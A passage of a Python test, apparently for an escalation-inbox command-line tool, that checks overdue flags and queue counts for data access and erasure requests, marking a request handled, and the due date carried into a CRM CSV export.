    late = {r["escalation_id"]: r for r in json.loads(_ok(world, "inbox", "--json", now=past))["escalations"]}
    assert late[access["escalation_id"]]["data_request_overdue"] is True
    assert "2026-12-25 overdue" in _ok(world, "inbox", now=past)
    queue = json.loads(_ok(world, "status", "--json", now=past))["escalation_queue"]
    assert (queue["data_requests_open"], queue["data_requests_overdue"]) == (2, 2)
    _ok(world, "handled", access["escalation_id"], "--by", "Sam Lee", "--outcome", "other", now=past)
    queue = json.loads(_ok(world, "status", "--json", now=past))["escalation_queue"]
    assert (queue["data_requests_open"], queue["data_requests_overdue"]) == (1, 1), "an answered request is done"
    # Handled, the access request is handed to the CRM as any lead, with its due date.
    out = world / "crm"
    _ok(world, "export", "crm", "--format", "csv", "--out", str(out), now=past)
    with open(out / "escalations_crm.csv", newline="") as fh:
        handed = {r["escalation_id"]: r["data_request_due"] for r in csv.DictReader(fh)}
    assert handed[access["escalation_id"]] == "2026-12-25", handed
    assert {e for e, d in handed.items() if d} <= {erasure["escalation_id"], access["escalation_id"]}, handed
